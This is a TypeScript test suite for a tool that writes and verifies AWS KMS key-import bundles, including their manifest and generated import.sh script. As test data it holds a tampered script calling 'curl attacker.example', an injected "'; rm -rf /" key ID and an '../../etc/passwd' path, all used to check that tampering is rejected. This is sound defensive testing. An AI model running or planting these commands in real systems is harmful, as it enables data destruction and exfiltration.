import { execFile } from 'node:child_process';
import { createHash, generateKeyPairSync, randomBytes } from 'node:crypto';
import {
  chmod,
  mkdir,
  mkdtemp,
  readFile,
  readdir,
  rename,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { checkBundle } from '../../src/bundle/check.ts';
import { bundleContent, proofOf } from '../../src/bundle/content.ts';
import type { Manifest } from '../../src/bundle/manifest.ts';
import { parametersFromJson } from '../../src/bundle/parameters.ts';
import { publicKeyOf } from '../../src/audit/material/public-key.ts';
import { writeBundle, type BundleContent } from '../../src/bundle/write.ts';
import { wrapMaterial } from '../../src/crypto/wrap.ts';
import { loadWrappingPublicKey } from '../../src/crypto/wrapping-key.ts';
import { ownSchema } from '../report/schemas.ts';
import { answer, arn, hour, importToken, json, keyId, now, otherId, publicKey, refusal } from './samples.ts';
import { wrappingAlgorithms } from '../../src/tables/wrapping.ts';

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

const run = promisify(execFile);

let base = '';
let folder = '';
let count = 0;
beforeAll(async () => (base = await mkdtemp(join(tmpdir(), 'kms-keywrap-test-'))));
beforeEach(() => (folder = join(base, `bundle ${(count += 1)}`)));
afterAll(() => rm(base, { recursive: true, force: true }));

const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-384' });
const material = privateKey.export({ format: 'der', type: 'pkcs8' });

function content(changes: Readonly<Record<string, unknown>> = {}, raw = false): BundleContent {
  const bytes = raw ? randomBytes(32) : material;
  const encryptedKeyMaterial = wrapMaterial({
    material: bytes,
    publicKey: loadWrappingPublicKey(publicKey),
    wrappingAlgorithm: wrappingAlgorithms.RSAES_OAEP_SHA_256,
  });
  const facts = {
    encryptedKeyMaterial,
    partition: 'aws',
    keySpec: raw ? 'SYMMETRIC_DEFAULT' : 'ECC_NIST_P384',
    wrappingAlgorithm: 'RSAES_OAEP_SHA_256',
    wrappingKeySpec: 'RSA_3072',
  } as const;
  return bundleContent(facts, proofOf(bytes, facts, []), parametersFromJson(json(answer(changes)), now));
}

const p384 = { keySpec: 'ECC_NIST_P384', partition: 'aws' } as const;

const inBundle = (name: string) => join(folder, name);

describe('writing a bundle', () => {
  it('gives four files and a manifest that fits its schema', async () => {
    await writeBundle(folder, content(), { now });
    expect((await readdir(folder)).sort()).toEqual([
      'EncryptedKeyMaterial.bin',
      'ImportToken.bin',
      'WrappingPublicKey.bin',
      'import.sh',
      'manifest.json',
    ]);
    const manifest: unknown = JSON.parse(await readFile(inBundle('manifest.json'), 'utf8'));
    expect(ownSchema('kms-keywrap/bundle/1')(manifest)).toEqual([]);
    expect(manifest).toMatchObject({
      keyId: arn(),
      created: '2026-06-17T12:00:00.000Z',
      parametersValidTo: '2026-06-18T11:30:00.123Z',
      publicKeySha256: sha256(publicKeyOf(material, p384)),
      files: { 'ImportToken.bin': { bytes: importToken.length, sha256: sha256(importToken) } },
    });
    expect((await stat(folder)).mode & 0o777).toBe(0o700);
    expect((await stat(inBundle('import.sh'))).mode & 0o777).toBe(0o700);
    expect((await stat(inBundle('EncryptedKeyMaterial.bin'))).mode & 0o777).toBe(0o600);
  });

  it('nothing is overwritten without force, and foreign files never', async () => {
    await writeBundle(folder, content(), { now });
    const before = await readFile(inBundle('EncryptedKeyMaterial.bin'));
    expect((await refusal(() => writeBundle(folder, content(), { now }))).code).toBe('ERR_OUTPUT_EXISTS');
    expect(await readFile(inBundle('EncryptedKeyMaterial.bin'))).toEqual(before);
    await writeBundle(folder, content(), { now, force: true });
    expect(await readFile(inBundle('EncryptedKeyMaterial.bin'))).not.toEqual(before);
    await writeFile(inBundle('diary.txt'), 'mine');
    const { code, message } = await refusal(() => writeBundle(folder, content(), { now, force: true }));
    expect([code, message]).toEqual(['ERR_OUTPUT_EXISTS', expect.stringContaining('diary.txt')]);
    expect(await readFile(inBundle('diary.txt'), 'utf8')).toBe('mine');
    expect((await readdir(base)).filter((name) => name.startsWith('.'))).toEqual([]);
  });

  it('a file, a symbolic link and a missing folder as target are refused', async () => {
    await writeFile(folder, 'x');
    expect((await refusal(() => writeBundle(folder, content(), { now }))).code).toBe('ERR_OUTPUT_REFUSED');
    await symlink(base, `${folder} link`);
    expect((await refusal(() => writeBundle(`${folder} link`, content(), { now }))).code).toBe(
      'ERR_OUTPUT_REFUSED',
    );
    expect((await refusal(() => writeBundle(join(base, 'no', 'where'), content(), { now }))).code).toBe(
      'ERR_OUTPUT_REFUSED',
    );
  });

  it('the public key’s fingerprint is of the uncompressed point, for SM2 too (openssl as witness)', async () => {
    const curves = { 'P-256': 'ECC_NIST_P256', 'secp256k1': 'ECC_SECG_P256K1', 'sm2': 'SM2' } as const;
    for (const [curve, keySpec] of Object.entries(curves)) {
      const context = { keySpec, partition: 'aws-cn' } as const;
      const pem = join(base, `${curve}.pem`);
      await run('openssl', [
        'genpkey',
        '-algorithm',
        'ec',
        '-pkeyopt',
        `ec_paramgen_curve:${curve}`,
        '-out',
        pem,
      ]);
      const der = async (...args: string[]) =>
        (await run('openssl', [...args, '-outform', 'DER'], { encoding: 'buffer' })).stdout;
      const pkcs8 = await der('pkcs8', '-topk8', '-nocrypt', '-in', pem);
      const spki = await der('pkey', '-in', pem, '-pubout');
      expect(publicKeyOf(pkcs8, context)).toEqual(spki);
      // openssl 3.0 cannot write SM2 keys in this form.
      if (curve === 'sm2') continue;
      const squeezed = join(base, `${curve}-compressed.pem`);
      await run('openssl', ['pkey', '-in', pem, '-ec_conv_form', 'compressed', '-out', squeezed]);
      const compressed = await der('pkcs8', '-topk8', '-nocrypt', '-in', squeezed);
      expect(compressed.length).toBeLessThan(pkcs8.length);
      expect(publicKeyOf(compressed, context)).toEqual(spki);
    }
  });
});

describe('bundle check', () => {
  const failed = async (at = now) =>
    (await checkBundle(folder, at)).checks.filter((check) => !check.ok).map((check) => check.name);

  it('a fresh bundle is whole', async () => {
    await writeBundle(folder, content(), { now });
    const { ok, checks, foreign } = await checkBundle(folder, now);
    expect({ ok, foreign }).toEqual({ ok: true, foreign: [] });
    expect(checks.length).toBe(9);
    expect(checks.map((check) => check.message).join('\n')).toContain('another 23 h 30 min');
  });

  it('swapped tokens, changed and mixed files are found', async () => {
    await writeBundle(folder, content(), { now });
    const other = `${folder} other`;
    await writeBundle(
      other,
      content({ KeyId: arn(otherId), ImportToken: randomBytes(400).toString('base64') }),
      { now },
    );
    await writeFile(inBundle('ImportToken.bin'), await readFile(join(other, 'ImportToken.bin')));
    expect(await failed()).toEqual(['ImportToken.bin']);
    await writeFile(inBundle('ImportToken.bin'), publicKey);
    const { checks } = await checkBundle(folder, now);
    expect(checks.map((check) => check.message).join('\n')).toContain(
      'ImportToken.bin is a copy of WrappingPublicKey.bin',
    );
    expect(await failed()).toEqual(['ImportToken.bin', 'token and key']);
    await writeFile(inBundle('ImportToken.bin'), importToken);
    for (const name of ['EncryptedKeyMaterial.bin', 'WrappingPublicKey.bin', 'import.sh']) {
      const whole = await readFile(inBundle(name));
      const changed = Buffer.from(whole);
      changed[changed.length - 2]! ^= 1;
      await writeFile(inBundle(name), changed);
      expect(await failed()).toContain(name);
      await rm(inBundle(name));
      expect(await failed()).toContain(name);
      await writeFile(inBundle(name), whole);
    }
    expect(await failed()).toEqual([]);
    expect(await failed(now + 24 * hour)).toEqual(['validity']);
  });

  it('a link, a folder or another length in place of a file is found', async () => {
    await writeBundle(folder, content(), { now });
    const manifest = JSON.parse(await readFile(inBundle('manifest.json'), 'utf8')) as Manifest;
    const blob = { ...manifest.files['EncryptedKeyMaterial.bin'], bytes: 1 };
    const files = { ...manifest.files, 'EncryptedKeyMaterial.bin': blob };
    await writeFile(inBundle('manifest.json'), JSON.stringify({ ...manifest, files }));
    await rename(inBundle('ImportToken.bin'), `${folder} token`);
    await symlink(`${folder} token`, inBundle('ImportToken.bin'));
    await rm(inBundle('import.sh'));
    await mkdir(inBundle('import.sh'));
    const { checks } = await checkBundle(folder, now);
    expect(checks.flatMap(({ ok, message }) => (ok ? [] : message))).toEqual([
      'EncryptedKeyMaterial.bin has 384 bytes, the manifest says 1',
      'ImportToken.bin is a symbolic link: a bundle holds its files itself',
      'import.sh is not a regular file: a bundle holds its files itself',
    ]);
  });

  it('a fault that shows in the blob is named, even where its digest fits', async () => {
    const { encryptedKeyMaterial, ...rest } = content();
    await writeBundle(
      folder,
      { ...rest, encryptedKeyMaterial: encryptedKeyMaterial.subarray(0, 100) },
      { now },
    );
    expect(await failed()).toEqual(['blob']);
    const { checks } = await checkBundle(folder, now);
    expect(checks.find((one) => !one.ok)?.message).toContain('[blob-truncated]');
  });

  it('a script that was replaced together with its digest is found', async () => {
    await writeBundle(folder, content(), { now });
    const evil = Buffer.from('#!/bin/sh\ncurl attacker.example\n');
    await writeFile(inBundle('import.sh'), evil);
    const manifest = JSON.parse(await readFile(inBundle('manifest.json'), 'utf8')) as {
      files: Record<string, unknown>;
    };
    manifest.files['import.sh'] = { bytes: evil.length, sha256: sha256(evil) };
    await writeFile(inBundle('manifest.json'), JSON.stringify(manifest));
    expect(await failed()).toEqual(['script']);
  });

  it.each([
    ['no JSON', '{', 'is not JSON'],
    ['a list', '[]', 'is not a JSON object'],
    ['another schema', { schema: 'kms-keywrap/bundle/2' }, 'has a schema of another form'],
    ['an unknown field', { extra: 1 }, 'unknown field "extra"'],
    [
      'a path as file',
      { files: { '../../etc/passwd': { bytes: 1, sha256: '0'.repeat(64) } } },
      'has a files of another form',
    ],
    ['an unknown algorithm', { wrappingAlgorithm: 'toString' }, 'has a wrappingAlgorithm of another form'],
    ['a shell command as key', { keyId: "'; rm -rf /" }, 'has a keyId of another form'],
    ['a missing field', { keySpec: undefined }, 'has no keySpec'],
    ['a day that no month has', { created: '2026-02-30T00:00:00.000Z' }, 'has a created of another form'],
    [
      'a MAC of a key spec that has none',
      { expectedMac: { macAlgorithm: 'HMAC_SHA_256', message: 'YQ==', mac: '0'.repeat(64) } },
      'has an expectedMac that is not of key spec ECC_NIST_P384',
    ],
    [
      'a MAC of another length',
      { expectedMac: { macAlgorithm: 'HMAC_SHA_256', message: 'YQ==', mac: '0'.repeat(56) } },
      'has a expectedMac of another form',
    ],
    ['a partition that is not the key’s', { partition: 'aws-cn' }, 'names a KMS key of aws'],
  ])('a manifest with %s is refused', async (_name, changes, message) => {
    await writeBundle(folder, content(), { now });
    const manifest = JSON.parse(await readFile(inBundle('manifest.json'), 'utf8')) as object;
    const text = typeof changes === 'string' ? changes : JSON.stringify({ ...manifest, ...changes });
    await writeFile(inBundle('manifest.json'), text);
    expect(await refusal(() => checkBundle(folder, now))).toMatchObject({
      code: 'ERR_PARAMETERS',
      message: expect.stringContaining(message),
    });
  });

  it('a folder without a manifest is refused', async () => {
    await mkdir(folder);
    expect((await refusal(() => checkBundle(folder, now))).code).toBe('ERR_INPUT_UNREADABLE');
  });
});

describe('import.sh', () => {
  /** An aws that writes down how it was called and answers as told. */
  async function fakeAws(
    publicKeyBase64: string,
    state = 'Enabled',
    { version = 'aws-cli/2.27.30 Python/3.13.4', refuses = '' } = {},
  ): Promise<string> {
    const path = join(base, `aws-${count}`);
    await writeFile(
      path,
      `#!/bin/sh\n[ "$1" = --version ] && { echo '${version}'; exit 0; }\nfor a in "$@"; do [ "$a" = '${refuses}' ] && { echo "Unknown options: $a" >&2; exit 252; }; done\nprintf '<%s>' "$@" >>'${path}.log'\nprintf '\\n' >>'${path}.log'\ncase $2 in get-public-key) echo '${publicKeyBase64}' ;; describe-key) echo '${state}' ;; esac\n`,
    );
    await chmod(path, 0o755);
    return path;
  }
  const script = async (args: string[], env: Record<string, string> = {}, shell = 'sh') => {
    try {
      const { stdout, stderr } = await run(shell, [inBundle('import.sh'), ...args], {
        env: { PATH: process.env['PATH'] ?? '', ...env },
        cwd: base,
      });
      return { code: 0, stdout, stderr };
    } catch (error) {
      const { code, stdout, stderr } = error as { code: number; stdout: string; stderr: string };
      return { code, stdout, stderr };
    }
  };
  const valid = { ParametersValidTo: Math.floor(Date.now() / 1000) + 3600 };
  const write = (changes = {}, raw = false) =>
    writeBundle(folder, content({ ...valid, ...changes }, raw), { now: Date.now() });
  const forever = ['--expiration-model', 'KEY_MATERIAL_DOES_NOT_EXPIRE'];
  const spki = publicKeyOf(material, p384).toString('base64');

  it.each([
    ['aws-cli/2.26.4 Python/3.12.9 Darwin/24.6.0 source/arm64', 'version 2.26.4'],
    ['aws-cli/2.9.19 Python/3.11.2', 'version 2.9.19'],
    ['aws-cli/2.27.29 Python/3.13.4', 'version 2.27.29'],
    ['aws-cli/1.40.29 Python/3.11.2 botocore/1.38.30', 'version 1.40.29'],
    ['a wrapper without a version', 'refused its options'],
  ])(
    'an AWS CLI without --import-type is named as too old before or after it refuses: %s',
    async (version, said) => {
      await write({}, true);
      for (const [option, value] of [
        ['--import-type', 'NEW_KEY_MATERIAL'],
        ['--description', 'x'],
      ] as const) {
        const refuses = option === '--description' ? '--key-material-description' : option;
        const aws = await fakeAws('', 'Enabled', { version, refuses });
        const { code, stderr } = await script([...forever, option, value], { AWS_CLI: aws });
        expect(code).toBe(3);
        expect(stderr).toContain(said);
        expect(stderr).toContain('2.27.30 or later');
        expect((await script(forever, { AWS_CLI: aws })).code).toBe(0);
        await rm(`${aws}.log`);
      }
    },
  );

  it.each([
    'aws-cli/2.27.30 Python/3.13.4',
    'aws-cli/2.28.0 x',
    'aws-cli/2.100.1',
    'aws-cli/1.40.30 Python/3.11.2',
    'aws-cli/3.0.0',
    '',
  ])('an AWS CLI that has --import-type is called with it: %s', async (version) => {
    await write({}, true);
    const aws = await fakeAws('', 'Enabled', { version });
    const { code } = await script([...forever, '--import-type', 'NEW_KEY_MATERIAL'], { AWS_CLI: aws });
    expect(code).toBe(0);
    expect(await readFile(`${aws}.log`, 'utf8')).toContain('<--import-type><NEW_KEY_MATERIAL>');
  });

  it('without an AWS CLI it says so, and nothing else happens', async () => {
    await write({}, true);
    expect(await script(forever, { AWS_CLI: '/nowhere/aws' })).toMatchObject({
      code: 3,
      stdout: '',
      stderr: expect.stringContaining('/nowhere/aws is not installed'),
    });
  });

  it.each(['dash', 'bash'])('imports and compares the public key (%s)', async (shell) => {
    await write();
    const aws = await fakeAws(spki);
    const { code, stdout, stderr } = await script([...forever, '--no-proof'], { AWS_CLI: aws }, shell);
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toContain('as expected');
    expect((await readFile(`${aws}.log`, 'utf8')).split('\n')).toEqual([
      `<kms><import-key-material><--key-id><${arn()}><--encrypted-key-material><fileb://EncryptedKeyMaterial.bin><--import-token><fileb://ImportToken.bin><--expiration-model><KEY_MATERIAL_DOES_NOT_EXPIRE><--region><us-west-2>`,
      `<kms><describe-key><--key-id><${arn()}><--query><KeyMetadata.KeyState><--output><text><--region><us-west-2>`,
      `<kms><get-public-key><--key-id><${arn()}><--query><PublicKey><--output><text><--region><us-west-2>`,
      '',
    ]);
  });

  it('every option reaches the AWS CLI as one argument, from flags and from the environment', async () => {
    await write({}, true);
    const aws = await fakeAws('');
    const flags = [
      '--valid-to',
      '2026-06-17T12:00:00-08:00',
      '--import-type',
      'NEW_KEY_MATERIAL',
      '--description',
      "it's 'mine' $HOME",
      '--endpoint-url',
      'http://127.0.0.1:9',
    ];
    expect((await script(flags, { AWS_CLI: aws })).code).toBe(0);
    const environment = {
      VALID_TO: '2026-06-17T12:00:00-08:00',
      IMPORT_TYPE: 'NEW_KEY_MATERIAL',
      KEY_MATERIAL_DESCRIPTION: "it's 'mine' $HOME",
      AWS_ENDPOINT_URL_KMS: 'http://127.0.0.1:9',
    };
    expect((await script([], { AWS_CLI: aws, ...environment })).code).toBe(0);
    const [first, , third] = (await readFile(`${aws}.log`, 'utf8')).split('\n');
    expect(first).toContain(
      "<--expiration-model><KEY_MATERIAL_EXPIRES><--valid-to><2026-06-17T12:00:00-08:00><--import-type><NEW_KEY_MATERIAL><--key-material-description><it's 'mine' $HOME><--region><us-west-2><--endpoint-url><http://127.0.0.1:9>",
    );
    expect(third).toBe(first);
  });

  it.each([
    ['another public key', forever, 1, 'KMS now has the public key'],
    ['no expiration', [], 2, 'say --valid-to TIME'],
    ['expiry without a date', ['--expiration-model', 'KEY_MATERIAL_EXPIRES'], 2, 'needs --valid-to'],
    ['a date without expiry', [...forever, '--valid-to', '2027-01-01T00:00:00Z'], 2, 'does not go with'],
    ['an unknown model', ['--expiration-model', 'SOMETIMES'], 2, 'unknown expiration model'],
    ['an unknown import type', [...forever, '--import-type', 'OLD'], 2, 'unknown import type OLD'],
    ['an unknown option', [...forever, '--force'], 2, 'unknown option --force'],
    ['an option without value', ['--valid-to'], 2, 'needs a value'],
    ['another key', [...forever, '--key-id', otherId], 2, 'is for arn:aws:kms'],
    [
      'an import type for an EC key',
      [...forever, '--import-type', 'NEW_KEY_MATERIAL'],
      2,
      'symmetric encryption keys',
    ],
  ])('ends with an error on %s', async (_name, args, code, message) => {
    await write();
    const aws = await fakeAws(publicKey.toString('base64'));
    const result = await script(args, { AWS_CLI: aws });
    expect(result).toMatchObject({ code, stderr: expect.stringContaining(message) });
  });

  it('sends nothing when a file was changed, is missing, or the token has expired', async () => {
    await write();
    const aws = await fakeAws(spki);
    await writeFile(inBundle('ImportToken.bin'), 'other');
    expect(await script(forever, { AWS_CLI: aws })).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('ImportToken.bin is not the file'),
    });
    await rm(inBundle('ImportToken.bin'));
    expect(await script(forever, { AWS_CLI: aws })).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('ImportToken.bin is missing'),
    });
    await writeFile(inBundle('ImportToken.bin'), importToken);
    const later = join(base, 'later');
    await mkdir(later, { recursive: true });
    await writeFile(join(later, 'date'), '#!/bin/sh\necho 9999999999\n', { mode: 0o755 });
    expect(
      await script(forever, { AWS_CLI: aws, PATH: `${later}:${process.env['PATH'] ?? ''}` }),
    ).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('the import token expired'),
    });
    expect((await readdir(base)).includes(`aws-${count}.log`)).toBe(false);
  });

  it('a key that is not Enabled afterwards is an error, and --dry-run sends nothing', async () => {
    await write();
    const aws = await fakeAws(spki, 'PendingImport');
    expect(await script([...forever, '--wait', '0'], { AWS_CLI: aws })).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('PendingImport'),
    });
    await rm(`${aws}.log`);
    const dry = await script([...forever, '--dry-run'], { AWS_CLI: aws });
    expect(dry.stdout).toContain(
      ` kms import-key-material --key-id ${arn()} --encrypted-key-material fileb://`,
    );
    expect((await readdir(base)).includes(`aws-${count}.log`)).toBe(false);
  });

  it('--dry-run shows a command that does the same when it is pasted', async () => {
    await write({ KeyId: keyId }, true);
    const aws = await fakeAws('');
    const asked = [...forever, '--description', "it's 'mine' $HOME", '--endpoint-url', 'http://[::1]:9/?a&b'];
    const { stdout } = await script([...asked, '--dry-run'], { AWS_CLI: aws });
    await run('sh', ['-c', stdout]);
    await script(asked, { AWS_CLI: aws });
    const [pasted, sent] = (await readFile(`${aws}.log`, 'utf8')).split('\n');
    expect(pasted).toBe(sent);
    expect(sent).not.toContain('--region');
  });

  it('finds its files wherever CDPATH leads', async () => {
    await write();
    const aws = await fakeAws(spki);
    await mkdir(join(base, 'elsewhere', basename(folder)), { recursive: true });
    const { stdout } = await run('sh', [`${basename(folder)}/import.sh`, ...forever, '--no-proof'], {
      env: { PATH: process.env['PATH'] ?? '', CDPATH: join(base, 'elsewhere'), AWS_CLI: aws },
      cwd: base,
    });
    expect(stdout).toContain('as expected');
  });

  it('is clean by shellcheck, as sh and as bash', async (context) => {
    const there = await run('shellcheck', ['--version']).catch(() => undefined);
    context.skip(there === undefined, 'shellcheck is not installed here');
    await write({ KeyId: keyId });
    for (const shell of ['sh', 'dash', 'bash'])
      expect(
        (
          await run('shellcheck', [
            '-s',
            shell,
            '-o',
            'quote-safe-variables,check-unassigned-uppercase',
            inBundle('import.sh'),
          ])
        ).stdout,
      ).toBe('');
  });
});
